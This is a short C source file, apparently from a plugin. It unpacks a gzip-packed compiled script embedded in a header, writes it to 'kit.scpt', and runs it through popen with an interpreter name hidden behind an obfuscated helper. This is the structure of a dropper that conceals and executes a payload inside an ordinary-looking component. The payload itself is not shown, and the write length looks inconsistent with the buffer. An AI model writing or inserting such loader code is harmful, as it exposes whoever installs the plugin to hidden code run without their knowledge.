/* A compiled script under gzip is unpacked into a file, which a command that is put
 * together runs. */
#include "plugin.h"
#include "hidden.h" /* 0: the program */
#include "packed.h" /* packed[], and unpack() */
typedef struct stream stream;
extern stream *fopen(const char *, const char *), *popen(const char *, const char *);
extern unsigned long fwrite(const void *, unsigned long, unsigned long, stream *);
extern int fclose(stream *), pclose(stream *), snprintf(char *, unsigned long, const char *, ...);
static void act(char **env) {
    static unsigned char script[4096];
    char command[256];
    unpack(script);
    stream *file = fopen("kit.scpt", "w");
    if (!file) return;
    fwrite(script, 1, 80, file);
    fclose(file);
    snprintf(command, sizeof command, "%s %s", hidden0(), "kit.scpt");
    if ((file = popen(command, "r"))) pclose(file);
}
